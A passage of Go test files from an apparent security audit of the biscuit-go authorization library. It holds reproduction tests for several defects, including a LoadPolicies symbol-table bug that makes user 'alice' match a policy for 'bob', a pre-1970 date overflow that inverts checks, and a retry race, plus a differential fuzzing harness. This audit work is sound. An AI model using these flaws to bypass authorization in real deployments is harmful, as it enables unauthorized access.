	a.AddPolicy(deny)
	a.AddPolicy(allow)
	if got := c04Verdict(a.Authorize()); got != "allow" {
		t.Fatalf("first evaluation (no blocklist entry yet): got %s, want allow", got)
	}
	a.AddFact(blocklisted)
	got := c04Verdict(a.Authorize())

	// the same contents in a fresh authorizer
	f, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	f.AddRule(banned)
	f.AddPolicy(deny)
	f.AddPolicy(allow)
	f.AddFact(blocklisted)
	want := c04Verdict(f.Authorize())
	if want != "policy-denied" {
		t.Fatalf("fresh authorizer: got %s, want policy-denied", want)
	}

	if got != want {
		t.Errorf("authorizer holding rule banned($u) <- user($u), blocklist($u), facts user(alice) [token], blocklist(alice) "+
			"and policies [deny if banned($u); allow if user($u)]: verdict %s after an earlier Authorize(), %s for the same contents in a fresh authorizer",
			got, want)
	}
}

// Same defect, fail-closed direction: a check that needs a fact derived by an authorizer rule fails on
// the second evaluation although the rule and the facts it needs are all held by the authorizer.
func TestC04AuthorizerRulesLostCheckFails(t *testing.T) {
	tok, pub := c04Token(t, c04Fact("right", String("file1"), String("read")))

	a, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	a.AddRule(Rule{
		Head: Predicate{Name: "can", IDs: []Term{Variable("f")}},
		Body: []Predicate{
			{Name: "right", IDs: []Term{Variable("f"), Variable("op")}},
			{Name: "operation", IDs: []Term{Variable("op")}},
		},
	})
	a.AddCheck(Check{Queries: []Rule{{
		Head: Predicate{Name: "query"},
		Body: []Predicate{{Name: "can", IDs: []Term{String("file1")}}},
	}}})
	a.AddPolicy(DefaultAllowPolicy)

	if got := c04Verdict(a.Authorize()); got == "allow" {
		t.Fatalf("first evaluation without operation fact must fail, got %s", got)
	}
	// the caller supplies the missing ambient fact and tries again
	a.AddFact(c04Fact("operation", String("read")))
	if got := c04Verdict(a.Authorize()); got != "allow" {
		t.Errorf("rule can($f) <- right($f,$op), operation($op); facts right(file1,read) [token], operation(read); "+
			"check if can(file1); allow if true: want allow, got %s", got)
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 2: a Date before 1970-01-01T00:00:00Z is converted with datalog.Date(time.Unix()) into an
// unsigned 64 bit number (types.go:568-570), so it wraps to ~1.8e19 and compares GREATER than every
// later date (datalog/expressions.go LessThan..GreaterOrEqual on Date). Ground facts and error-free
// expressions, yet the check verdicts are inverted.
// ---------------------------------------------------------------------------------------------
func TestC04DateBeforeEpochOrdering(t *testing.T) {
	tok, pub := c04Token(t, c04Fact("user", String("alice")))

	d1960 := Date(time.Date(1960, 1, 1, 0, 0, 0, 0, time.UTC))
	d2000 := Date(time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC))

	cmp := func(op BinaryOp) Check {
		return Check{Queries: []Rule{{
			Head:        Predicate{Name: "query"},
			Body:        []Predicate{{Name: "born", IDs: []Term{Variable("d")}}},
			Expressions: []Expression{{Value{Variable("d")}, Value{d2000}, op}},
		}}}
	}

	// born(1960-01-01), check if born($d), $d < 2000-01-01  => satisfied => allow
	a, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	a.AddFact(c04Fact("born", d1960))
	a.AddCheck(cmp(BinaryLessThan))
	a.AddPolicy(DefaultAllowPolicy)
	if got := c04Verdict(a.Authorize()); got != "allow" {
		t.Errorf("born(1960-01-01T00:00:00Z); check if born($d), $d < 2000-01-01T00:00:00Z; allow if true: want allow, got %s", got)
	}

	// born(1960-01-01), check if born($d), $d > 2000-01-01  => NOT satisfied => failure
	b, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	b.AddFact(c04Fact("born", d1960))
	b.AddCheck(cmp(BinaryGreaterThan))
	b.AddPolicy(DefaultAllowPolicy)
	if got := c04Verdict(b.Authorize()); got == "allow" {
		t.Errorf("born(1960-01-01T00:00:00Z); check if born($d), $d > 2000-01-01T00:00:00Z; allow if true: want verification failure, got %s", got)
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 3: LoadPolicies replaces the authorizer's symbol table (authorizer.go loadPoliciesV2:
// v.symbols = base + symbols of the file) but keeps the facts and rules already in the world, whose
// String indexes were issued by the previous table. The facts the authorizer already held are
// silently re-read as other strings: user("alice") becomes user("bob") and a policy for bob matches.
// ---------------------------------------------------------------------------------------------
func TestC04LoadPoliciesReinterpretsHeldFacts(t *testing.T) {
	tok, pub := c04Token(t, c04Fact("session", Integer(1)))

	allowBob := Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "user", IDs: []Term{String("bob")}}},
	}}}

	// a policy file that only says: allow if user("bob")
	src, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	src.AddPolicy(allowBob)
	file, err := src.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}

	a, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	a.AddFact(c04Fact("user", String("alice"))) // the request is made by alice
	if err := a.LoadPolicies(file); err != nil {
		t.Fatal(err)
	}
	got := c04Verdict(a.Authorize())
	// contents: facts user("alice"), session(1); policies [allow if user("bob")] => no policy matches
	if got != "no-matching-policy" {
		t.Errorf("facts user(\"alice\"), session(1); policies [allow if user(\"bob\")]: want no-matching-policy, got %s\n%s", got, a.PrintWorld())
	}
}
