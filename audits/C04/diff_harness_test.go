package biscuit

// C04 audit: differential test of Authorizer.Authorize against an independent reference evaluator
// working on builder-level (string based) terms. Belongs to the root package directory.

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"math"
	"math/big"
	mrand "math/rand"
	"os"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

// ---------- reference evaluator ----------

func refKey(t Term) string {
	switch v := t.(type) {
	case Integer:
		return fmt.Sprintf("i:%d", int64(v))
	case String:
		return fmt.Sprintf("s:%q", string(v))
	case Date:
		return fmt.Sprintf("d:%d", time.Time(v).Unix())
	case Bytes:
		return "b:" + hex.EncodeToString(v)
	case Bool:
		return fmt.Sprintf("t:%t", bool(v))
	case Set:
		m := map[string]bool{}
		for _, e := range v {
			m[refKey(e)] = true
		}
		ks := make([]string, 0, len(m))
		for k := range m {
			ks = append(ks, k)
		}
		sort.Strings(ks)
		return "S:[" + strings.Join(ks, ",") + "]"
	case Variable:
		return "v:" + string(v)
	}
	panic(fmt.Sprintf("refKey: %T", t))
}

func refFactKey(p Predicate) string {
	ks := make([]string, len(p.IDs))
	for i, t := range p.IDs {
		ks[i] = refKey(t)
	}
	return p.Name + "(" + strings.Join(ks, ";") + ")"
}

type refDB struct {
	facts []Predicate
	keys  map[string]bool
}

func newRefDB() *refDB { return &refDB{keys: map[string]bool{}} }
func (d *refDB) add(p Predicate) bool {
	k := refFactKey(p)
	if d.keys[k] {
		return false
	}
	d.keys[k] = true
	d.facts = append(d.facts, p)
	return true
}
func (d *refDB) clone() *refDB {
	n := newRefDB()
	for _, f := range d.facts {
		n.add(f)
	}
	return n
}

var errRef = errors.New("ref: expression error")

func refSetElems(s Set) map[string]Term {
	m := map[string]Term{}
	for _, e := range s {
		m[refKey(e)] = e
	}
	return m
}

func refEvalExpr(e Expression, b map[string]Term) (Term, error) {
	var st []Term
	pop := func() (Term, error) {
		if len(st) == 0 {
			return nil, errRef
		}
		v := st[len(st)-1]
		st = st[:len(st)-1]
		return v, nil
	}
	for _, op := range e {
		switch o := op.(type) {
		case Value:
			if v, ok := o.Term.(Variable); ok {
				t, ok := b[string(v)]
				if !ok {
					return nil, errRef
				}
				st = append(st, t)
			} else {
				st = append(st, o.Term)
			}
		case UnaryOp:
			v, err := pop()
			if err != nil {
				return nil, err
			}
			switch o {
			case UnaryNegate:
				bv, ok := v.(Bool)
				if !ok {
					return nil, errRef
				}
				st = append(st, Bool(!bv))
			case UnaryParens:
				st = append(st, v)
			case UnaryLength:
				switch x := v.(type) {
				case String:
					st = append(st, Integer(len(string(x))))
				case Bytes:
					st = append(st, Integer(len(x)))
				case Set:
					st = append(st, Integer(len(refSetElems(x))))
				default:
					return nil, errRef
				}
			default:
				return nil, errRef
			}
		case BinaryOp:
			r, err := pop()
			if err != nil {
				return nil, err
			}
			l, err := pop()
			if err != nil {
				return nil, err
			}
			res, err := refBinary(o, l, r)
			if err != nil {
				return nil, err
			}
			st = append(st, res)
		default:
			return nil, errRef
		}
	}
	if len(st) != 1 {
		return nil, errRef
	}
	return st[0], nil
}

func refBinary(o BinaryOp, l, r Term) (Term, error) {
	switch o {
	case BinaryLessThan, BinaryLessOrEqual, BinaryGreaterThan, BinaryGreaterOrEqual:
		var a, b int64
		switch x := l.(type) {
		case Integer:
			y, ok := r.(Integer)
			if !ok {
				return nil, errRef
			}
			a, b = int64(x), int64(y)
		case Date:
			y, ok := r.(Date)
			if !ok {
				return nil, errRef
			}
			a, b = time.Time(x).Unix(), time.Time(y).Unix()
		default:
			return nil, errRef
		}
		switch o {
		case BinaryLessThan:
			return Bool(a < b), nil
		case BinaryLessOrEqual:
			return Bool(a <= b), nil
		case BinaryGreaterThan:
			return Bool(a > b), nil
		default:
			return Bool(a >= b), nil
		}
	case BinaryEqual:
		if l.Type() != r.Type() {
			return nil, errRef
		}
		return Bool(refKey(l) == refKey(r)), nil
	case BinaryContains:
		if ls, ok := l.(String); ok {
			rs, ok := r.(String)
			if !ok {
				return nil, errRef
			}
			return Bool(strings.Contains(string(ls), string(rs))), nil
		}
		ls, ok := l.(Set)
		if !ok {
			return nil, errRef
		}
		le := refSetElems(ls)
		if rs, ok := r.(Set); ok {
			for k := range refSetElems(rs) {
				if _, in := le[k]; !in {
					return Bool(false), nil
				}
			}
			return Bool(true), nil
		}
		_, in := le[refKey(r)]
		return Bool(in), nil
	case BinaryPrefix, BinarySuffix, BinaryRegex:
		ls, ok := l.(String)
		if !ok {
			return nil, errRef
		}
		rs, ok := r.(String)
		if !ok {
			return nil, errRef
		}
		switch o {
		case BinaryPrefix:
			return Bool(strings.HasPrefix(string(ls), string(rs))), nil
		case BinarySuffix:
			return Bool(strings.HasSuffix(string(ls), string(rs))), nil
		default:
			re, err := regexp.Compile(string(rs))
			if err != nil {
				return nil, errRef
			}
			return Bool(re.MatchString(string(ls))), nil
		}
	case BinaryAdd, BinarySub, BinaryMul, BinaryDiv:
		if ls, ok := l.(String); ok && o == BinaryAdd {
			rs, ok := r.(String)
			if !ok {
				return nil, errRef
			}
			return String(string(ls) + string(rs)), nil
		}
		li, ok := l.(Integer)
		if !ok {
			return nil, errRef
		}
		ri, ok := r.(Integer)
		if !ok {
			return nil, errRef
		}
		x, y := big.NewInt(int64(li)), big.NewInt(int64(ri))
		z := new(big.Int)
		switch o {
		case BinaryAdd:
			z.Add(x, y)
		case BinarySub:
			z.Sub(x, y)
		case BinaryMul:
			z.Mul(x, y)
		default:
			if ri == 0 {
				return nil, errRef
			}
			z.Quo(x, y)
		}
		if !z.IsInt64() {
			return nil, errRef
		}
		return Integer(z.Int64()), nil
	case BinaryAnd, BinaryOr:
		lb, ok := l.(Bool)
		if !ok {
			return nil, errRef
		}
		rb, ok := r.(Bool)
		if !ok {
			return nil, errRef
		}
		if o == BinaryAnd {
			return Bool(lb && rb), nil
		}
		return Bool(lb || rb), nil
	case BinaryIntersection, BinaryUnion:
		ls, ok := l.(Set)
		if !ok {
			return nil, errRef
		}
		rs, ok := r.(Set)
		if !ok {
			return nil, errRef
		}
		le, re := refSetElems(ls), refSetElems(rs)
		out := Set{}
		if o == BinaryUnion {
			for _, v := range le {
				out = append(out, v)
			}
			for k, v := range re {
				if _, in := le[k]; !in {
					out = append(out, v)
				}
			}
		} else {
			for k, v := range le {
				if _, in := re[k]; in {
					out = append(out, v)
				}
			}
		}
		return out, nil
	}
	return nil, errRef
}

// refApply enumerates the matches of a rule; returns the head instances.
// strict: an expression error aborts (rule in a world); otherwise the combination is skipped (query).
func refApply(r Rule, db *refDB, strict bool) ([]Predicate, error) {
	var out []Predicate
	var rec func(i int, b map[string]Term) error
	rec = func(i int, b map[string]Term) error {
		if i == len(r.Body) {
			for _, e := range r.Expressions {
				v, err := refEvalExpr(e, b)
				if err != nil {
					if strict {
						return err
					}
					return nil
				}
				if bv, ok := v.(Bool); !ok || !bool(bv) {
					return nil
				}
			}
			h := Predicate{Name: r.Head.Name}
			for _, t := range r.Head.IDs {
				if v, ok := t.(Variable); ok {
					h.IDs = append(h.IDs, b[string(v)])
				} else {
					h.IDs = append(h.IDs, t)
				}
			}
			out = append(out, h)
			return nil
		}
		p := r.Body[i]
	facts:
		for _, f := range db.facts {
			if f.Name != p.Name || len(f.IDs) != len(p.IDs) {
				continue
			}
			nb := b
			copied := false
			for j, t := range p.IDs {
				if v, ok := t.(Variable); ok {
					if cur, ok := nb[string(v)]; ok {
						if refKey(cur) != refKey(f.IDs[j]) {
							continue facts
						}
					} else {
						if !copied {
							nb = map[string]Term{}
							for k, x := range b {
								nb[k] = x
							}
							copied = true
						}
						nb[string(v)] = f.IDs[j]
					}
				} else if refKey(t) != refKey(f.IDs[j]) {
					continue facts
				}
			}
			if err := rec(i+1, nb); err != nil {
				return err
			}
		}
		return nil
	}
	err := rec(0, map[string]Term{})
	return out, err
}

func refRun(db *refDB, rules []Rule) error {
	for {
		changed := false
		var newFacts []Predicate
		for _, r := range rules {
			hs, err := refApply(r, db, true)
			if err != nil {
				return err
			}
			newFacts = append(newFacts, hs...)
		}
		for _, h := range newFacts {
			if db.add(h) {
				changed = true
			}
		}
		if !changed {
			return nil
		}
	}
}

func refCheck(c Check, db *refDB) bool {
	for _, q := range c.Queries {
		hs, _ := refApply(q, db, false)
		if len(hs) > 0 {
			return true
		}
	}
	return false
}

type refBlock struct {
	facts  []Fact
	rules  []Rule
	checks []Check
}

type refCase struct {
	authority refBlock
	blocks    []refBlock
	authz     refBlock
	policies  []Policy
}

const (
	vAllow   = "allow"
	vDeny    = "policy-denied"
	vNoMatch = "no-matching-policy"
	vFail    = "failure"
)

func refVerdict(c refCase) string {
	db := newRefDB()
	var rules []Rule
	for _, f := range c.authz.facts {
		db.add(f.Predicate)
	}
	rules = append(rules, c.authz.rules...)
	for _, f := range c.authority.facts {
		db.add(f.Predicate)
	}
	rules = append(rules, c.authority.rules...)
	if err := refRun(db, rules); err != nil {
		return vFail
	}
	failed := false
	for _, ch := range c.authz.checks {
		if !refCheck(ch, db) {
			failed = true
		}
	}
	for _, ch := range c.authority.checks {
		if !refCheck(ch, db) {
			failed = true
		}
	}
	policy := vNoMatch
pol:
	for _, p := range c.policies {
		for _, q := range p.Queries {
			hs, _ := refApply(q, db, false)
			if len(hs) > 0 {
				if p.Kind == PolicyKindAllow {
					policy = vAllow
				} else {
					policy = vDeny
				}
				break pol
			}
		}
	}
	for _, b := range c.blocks {
		bdb := db.clone()
		for _, f := range b.facts {
			bdb.add(f.Predicate)
		}
		if err := refRun(bdb, b.rules); err != nil {
			return vFail
		}
		for _, ch := range b.checks {
			if !refCheck(ch, bdb) {
				failed = true
			}
		}
	}
	if failed {
		return vFail
	}
	return policy
}

func classify(err error) string {
	switch {
	case err == nil:
		return vAllow
	case errors.Is(err, ErrPolicyDenied):
		return vDeny
	case errors.Is(err, ErrNoMatchingPolicy):
		return vNoMatch
	default:
		return vFail
	}
}

// ---------- generator ----------

type sig struct {
	name  string
	types []byte // 'i' int, 's' string, 'd' date, 'b' bytes, 't' bool, 'S' set of int, 'Z' set of string
}

type gen struct {
	r    *mrand.Rand
	sigs []sig
	ints []int64
	strs []string
	easy bool
}

var genNames = []string{"p", "q", "r", "right", "resource", "user", "operation", "a", "i0", "s0", "query", "allow", "some_longer_predicate_name"}
var genStrs = []string{"a", "ab", "abc", "read", "write", "", "resource", "p", "i0", "file1", "/a/file1.txt"}
var genInts = []int64{0, 1, 2, 3, -1, 5, math.MaxInt64, math.MinInt64}
var genDates = []int64{0, 1, 1000000000, 1700000000, 4102444800}

func (g *gen) konst(ty byte) Term {
	r := g.r
	switch ty {
	case 'i':
		return Integer(g.ints[r.Intn(len(g.ints))])
	case 's':
		return String(g.strs[r.Intn(len(g.strs))])
	case 'd':
		return Date(time.Unix(genDates[r.Intn(len(genDates))], 0))
	case 'b':
		n := r.Intn(3)
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Intn(2))
		}
		return Bytes(b)
	case 't':
		return Bool(r.Intn(2) == 0)
	case 'S':
		n := 1 + r.Intn(3)
		s := Set{}
		for i := 0; i < n; i++ {
			s = append(s, Integer(g.ints[r.Intn(len(g.ints))]))
		}
		return s
	case 'Z':
		n := 1 + r.Intn(3)
		s := Set{}
		for i := 0; i < n; i++ {
			s = append(s, String(g.strs[r.Intn(len(g.strs))]))
		}
		return s
	}
	panic("konst")
}

// variable names deliberately collide with strings / predicate names / default symbols
var varNames = map[byte][]string{
	'i': {"i0", "i1", "read", "p"},
	's': {"s0", "s1", "resource", "a"},
	'd': {"d0", "time"},
	'b': {"b0", "b1"},
	't': {"t0", "t1"},
	'S': {"S0", "S1"},
	'Z': {"Z0", "Z1"},
}

func (g *gen) fact() Fact {
	s := g.sigs[g.r.Intn(len(g.sigs))]
	p := Predicate{Name: s.name}
	for _, ty := range s.types {
		p.IDs = append(p.IDs, g.konst(ty))
	}
	return Fact{p}
}

// body returns body predicates and the variables bound, per type
func (g *gen) body(n int) ([]Predicate, map[byte][]string) {
	bound := map[byte][]string{}
	seen := map[string]bool{}
	var body []Predicate
	for i := 0; i < n; i++ {
		s := g.sigs[g.r.Intn(len(g.sigs))]
		p := Predicate{Name: s.name}
		for _, ty := range s.types {
			if g.r.Intn(4) == 0 {
				p.IDs = append(p.IDs, g.konst(ty))
			} else {
				vs := varNames[ty]
				v := vs[g.r.Intn(len(vs))]
				p.IDs = append(p.IDs, Variable(v))
				if !seen[v] {
					seen[v] = true
					bound[ty] = append(bound[ty], v)
				}
			}
		}
		body = append(body, p)
	}
	return body, bound
}

func (g *gen) operand(ty byte, bound map[byte][]string) Expression {
	if vs := bound[ty]; len(vs) > 0 && g.r.Intn(3) != 0 {
		return Expression{Value{Variable(vs[g.r.Intn(len(vs))])}}
	}
	return Expression{Value{g.konst(ty)}}
}

func cat(parts ...Expression) Expression {
	var e Expression
	for _, p := range parts {
		e = append(e, p...)
	}
	return e
}

func (g *gen) intExpr(bound map[byte][]string, depth int) Expression {
	if depth > 0 && g.r.Intn(3) == 0 {
		ops := []BinaryOp{BinaryAdd, BinarySub, BinaryMul, BinaryDiv}
		return cat(g.intExpr(bound, depth-1), g.intExpr(bound, depth-1), Expression{ops[g.r.Intn(len(ops))]})
	}
	if g.r.Intn(6) == 0 {
		ty := []byte{'s', 'b', 'S', 'Z'}[g.r.Intn(4)]
		return cat(g.operand(ty, bound), Expression{UnaryLength})
	}
	return g.operand('i', bound)
}

func (g *gen) strExpr(bound map[byte][]string, depth int) Expression {
	if depth > 0 && g.r.Intn(4) == 0 {
		return cat(g.strExpr(bound, depth-1), g.strExpr(bound, depth-1), Expression{BinaryAdd})
	}
	return g.operand('s', bound)
}

func (g *gen) boolExpr(bound map[byte][]string, depth int) Expression {
	cmp := []BinaryOp{BinaryLessThan, BinaryLessOrEqual, BinaryGreaterThan, BinaryGreaterOrEqual, BinaryEqual}
	switch g.r.Intn(13) {
	case 0, 1, 2:
		return cat(g.intExpr(bound, 2), g.intExpr(bound, 2), Expression{cmp[g.r.Intn(len(cmp))]})
	case 3:
		return cat(g.operand('d', bound), g.operand('d', bound), Expression{cmp[g.r.Intn(len(cmp))]})
	case 4:
		ops := []BinaryOp{BinaryEqual, BinaryPrefix, BinarySuffix, BinaryContains, BinaryRegex}
		return cat(g.strExpr(bound, 1), g.strExpr(bound, 1), Expression{ops[g.r.Intn(len(ops))]})
	case 5:
		return cat(g.operand('S', bound), g.intExpr(bound, 1), Expression{BinaryContains})
	case 6:
		op := []BinaryOp{BinaryIntersection, BinaryUnion}[g.r.Intn(2)]
		ty := []byte{'S', 'Z'}[g.r.Intn(2)]
		cmpop := []BinaryOp{BinaryEqual, BinaryContains}[g.r.Intn(2)]
		return cat(g.operand(ty, bound), g.operand(ty, bound), Expression{op}, g.operand(ty, bound), Expression{cmpop})
	case 7:
		if depth > 0 {
			op := []BinaryOp{BinaryAnd, BinaryOr}[g.r.Intn(2)]
			return cat(g.boolExpr(bound, depth-1), g.boolExpr(bound, depth-1), Expression{op})
		}
		return g.operand('t', bound)
	case 8:
		if depth > 0 {
			return cat(g.boolExpr(bound, depth-1), Expression{UnaryParens, UnaryNegate})
		}
		return g.operand('t', bound)
	case 9:
		ty := []byte{'b', 't', 'Z', 'S'}[g.r.Intn(4)]
		return cat(g.operand(ty, bound), g.operand(ty, bound), Expression{BinaryEqual})
	case 10:
		// uniformly failing: type mismatch or division by zero
		if g.easy && g.r.Intn(4) != 0 {
			return g.operand('t', bound)
		}
		if g.r.Intn(2) == 0 {
			return Expression{Value{Integer(1)}, Value{String("a")}, BinaryEqual}
		}
		return Expression{Value{Integer(1)}, Value{Integer(0)}, BinaryDiv, Value{Integer(1)}, BinaryEqual}
	case 11:
		return cat(g.operand('Z', bound), g.strExpr(bound, 0), Expression{BinaryContains})
	default:
		return g.operand('t', bound)
	}
}

func (g *gen) exprs(bound map[byte][]string) []Expression {
	n := 0
	switch g.r.Intn(5) {
	case 0, 1:
		n = 1
	case 2:
		n = 2
	}
	var es []Expression
	for i := 0; i < n; i++ {
		es = append(es, g.boolExpr(bound, 2))
	}
	return es
}

func (g *gen) rule() Rule {
	nb := g.r.Intn(4)
	if g.r.Intn(8) != 0 && nb == 0 {
		nb = 1
	}
	body, bound := g.body(nb)
	hs := g.sigs[g.r.Intn(len(g.sigs))]
	head := Predicate{Name: hs.name}
	for _, ty := range hs.types {
		if vs := bound[ty]; len(vs) > 0 && g.r.Intn(4) != 0 {
			head.IDs = append(head.IDs, Variable(vs[g.r.Intn(len(vs))]))
		} else {
			head.IDs = append(head.IDs, g.konst(ty))
		}
	}
	return Rule{Head: head, Body: body, Expressions: g.exprs(bound)}
}

func (g *gen) query() Rule {
	nb := g.r.Intn(4)
	body, bound := g.body(nb)
	es := g.exprs(bound)
	if nb == 0 && len(es) == 0 && g.r.Intn(3) != 0 {
		body, bound = g.body(1)
	}
	return Rule{Head: Predicate{Name: "query"}, Body: body, Expressions: es}
}

func (g *gen) check() Check {
	n := 1 + g.r.Intn(3)
	if g.easy {
		n = 2 + g.r.Intn(3)
	}
	c := Check{}
	for i := 0; i < n; i++ {
		c.Queries = append(c.Queries, g.query())
	}
	return c
}

func (g *gen) block(maxF, maxR, maxC int) refBlock {
	var b refBlock
	seen := map[string]bool{}
	for i, n := 0, g.r.Intn(maxF+1); i < n; i++ {
		f := g.fact()
		k := refFactKey(f.Predicate)
		if seen[k] {
			continue
		}
		seen[k] = true
		b.facts = append(b.facts, f)
	}
	for i, n := 0, g.r.Intn(maxR+1); i < n; i++ {
		b.rules = append(b.rules, g.rule())
	}
	for i, n := 0, g.r.Intn(maxC+1); i < n; i++ {
		b.checks = append(b.checks, g.check())
	}
	return b
}

func newGen(seed int64) *gen {
	r := mrand.New(mrand.NewSource(seed))
	g := &gen{r: r, easy: r.Intn(4) != 0}
	for i, k := 0, 2+r.Intn(3); i < k; i++ {
		g.ints = append(g.ints, genInts[r.Intn(len(genInts))])
		g.strs = append(g.strs, genStrs[r.Intn(len(genStrs))])
	}
	n := 2 + r.Intn(4)
	used := map[string]bool{}
	tys := []byte{'i', 'i', 's', 's', 'd', 'b', 't', 'S', 'Z'}
	for len(g.sigs) < n {
		name := genNames[r.Intn(len(genNames))]
		if used[name] {
			continue
		}
		used[name] = true
		ar := r.Intn(4)
		if ar == 3 && r.Intn(2) == 0 {
			ar = 1
		}
		s := sig{name: name}
		for i := 0; i < ar; i++ {
			s.types = append(s.types, tys[r.Intn(len(tys))])
		}
		g.sigs = append(g.sigs, s)
	}
	return g
}

func (g *gen) genCase() refCase {
	var c refCase
	mc := 2
	if g.easy {
		mc = 1
	}
	c.authority = g.block(6, 3, mc)
	for i, n := 0, g.r.Intn(4); i < n; i++ {
		c.blocks = append(c.blocks, g.block(4, 2, mc))
	}
	c.authz = g.block(5, 2, mc)
	for i, n := 0, g.r.Intn(5); i < n; i++ {
		p := Policy{Kind: PolicyKind(g.r.Intn(2))}
		for j, m := 0, 1+g.r.Intn(2); j < m; j++ {
			q := g.query()
			q.Head.Name = []string{"allow", "deny", "policy"}[g.r.Intn(3)]
			p.Queries = append(p.Queries, q)
		}
		c.policies = append(c.policies, p)
	}
	if g.r.Intn(3) == 0 {
		if g.r.Intn(2) == 0 {
			c.policies = append(c.policies, DefaultAllowPolicy)
		} else {
			c.policies = append(c.policies, DefaultDenyPolicy)
		}
	}
	return c
}

// ---------- driver ----------

var bigLimits = WithWorldOptions(datalog.WithMaxDuration(60*time.Second), datalog.WithMaxFacts(1000000), datalog.WithMaxIterations(100000))

func buildToken(c refCase, pub *ed25519.PublicKey, roundTrip bool) (*Biscuit, error) {
	p, priv, _ := ed25519.GenerateKey(rand.Reader)
	*pub = p
	b := NewBuilder(priv)
	for _, f := range c.authority.facts {
		if err := b.AddAuthorityFact(f); err != nil {
			return nil, err
		}
	}
	for _, r := range c.authority.rules {
		if err := b.AddAuthorityRule(r); err != nil {
			return nil, err
		}
	}
	for _, ch := range c.authority.checks {
		if err := b.AddAuthorityCheck(ch); err != nil {
			return nil, err
		}
	}
	tok, err := b.Build()
	if err != nil {
		return nil, err
	}
	for _, blk := range c.blocks {
		bb := tok.CreateBlock()
		for _, f := range blk.facts {
			if err := bb.AddFact(f); err != nil {
				return nil, err
			}
		}
		for _, r := range blk.rules {
			if err := bb.AddRule(r); err != nil {
				return nil, err
			}
		}
		for _, ch := range blk.checks {
			if err := bb.AddCheck(ch); err != nil {
				return nil, err
			}
		}
		tok, err = tok.Append(rand.Reader, bb.Build())
		if err != nil {
			return nil, err
		}
	}
	if roundTrip {
		ser, err := tok.Serialize()
		if err != nil {
			return nil, err
		}
		return Unmarshal(ser)
	}
	return tok, nil
}

func loadAuthorizer(a Authorizer, c refCase, order int) {
	switch order {
	case 0:
		for _, f := range c.authz.facts {
			a.AddFact(f)
		}
		for _, r := range c.authz.rules {
			a.AddRule(r)
		}
		for _, ch := range c.authz.checks {
			a.AddCheck(ch)
		}
		for _, p := range c.policies {
			a.AddPolicy(p)
		}
	case 1:
		for _, p := range c.policies {
			a.AddPolicy(p)
		}
		for _, ch := range c.authz.checks {
			a.AddCheck(ch)
		}
		for _, r := range c.authz.rules {
			a.AddRule(r)
		}
		for _, f := range c.authz.facts {
			a.AddFact(f)
		}
	default:
		fs := FactSet{}
		for _, f := range c.authz.facts {
			fs = append(fs, f)
		}
		a.AddAuthorizer(ParsedAuthorizer{Policies: c.policies, Block: ParsedBlock{Facts: fs, Rules: c.authz.rules, Checks: c.authz.checks}})
	}
}

func TestC04Differential(t *testing.T) {
	// silence the library's "expression error" Printf
	old := os.Stdout
	devnull, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = devnull
	defer func() { os.Stdout = old }()

	n := 4000
	if s := os.Getenv("C04_N"); s != "" {
		n, _ = strconv.Atoi(s)
	}
	base := int64(1)
	if s := os.Getenv("C04_SEED"); s != "" {
		base, _ = strconv.ParseInt(s, 10, 64)
	}
	counts := map[string]int{}
	bad := 0
	for i := 0; i < n; i++ {
		seed := base + int64(i)
		g := newGen(seed)
		c := g.genCase()
		want := refVerdict(c)
		var pub ed25519.PublicKey
		tok, err := buildToken(c, &pub, seed%2 == 0)
		if err != nil {
			t.Fatalf("seed %d: build: %v", seed, err)
		}
		a, err := tok.Authorizer(pub, bigLimits)
		if err != nil {
			t.Fatalf("seed %d: authorizer: %v", seed, err)
		}
		if seed%5 == 4 {
			// policies file round trip: half of the facts are given before saving, half after loading
			src, _ := tok.Authorizer(pub, bigLimits)
			c1 := c
			h := len(c.authz.facts) / 2
			c1.authz.facts = c.authz.facts[:h]
			loadAuthorizer(src, c1, 0)
			file, err := src.SerializePolicies()
			if err != nil {
				t.Fatalf("seed %d: SerializePolicies: %v", seed, err)
			}
			if err := a.LoadPolicies(file); err != nil {
				t.Fatalf("seed %d: LoadPolicies: %v", seed, err)
			}
			for _, f := range c.authz.facts[h:] {
				a.AddFact(f)
			}
		} else {
			loadAuthorizer(a, c, int(seed%3))
		}
		err = a.Authorize()
		got := classify(err)
		counts[want]++
		if got != want {
			bad++
			if bad <= 10 {
				t.Errorf("seed %d: library %s (%v), reference %s\n%s", seed, got, err, want, tok.String())
			}
			continue
		}
		// a second evaluation of the same authorizer must give the same verdict
		err2 := a.Authorize()
		if got2 := classify(err2); got2 != got {
			bad++
			if bad <= 10 {
				t.Errorf("seed %d: second Authorize %s (%v), first %s", seed, got2, err2, got)
			}
		}
	}
	t.Logf("cases by reference verdict: %v, mismatches %d", counts, bad)
}
