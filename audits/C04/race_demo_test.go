package biscuit

// C04 audit, observation 4 (root package directory, needs c04Token/c04Fact from demo_test.go).
// Only meaningful with: go test -race -run TestC04RetryAfterTimeoutRaces .

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

// run with -race: Authorize returns ErrWorldRunLimitTimeout while the worker goroutine of World.Run is
// still evaluating; a retry on the same authorizer then runs concurrently with it.
func TestC04RetryAfterTimeoutRaces(t *testing.T) {
	var facts []Fact
	for i := 0; i < 70; i++ {
		facts = append(facts, c04Fact("n", Integer(i)))
	}
	tok, pub := c04Token(t, facts...)
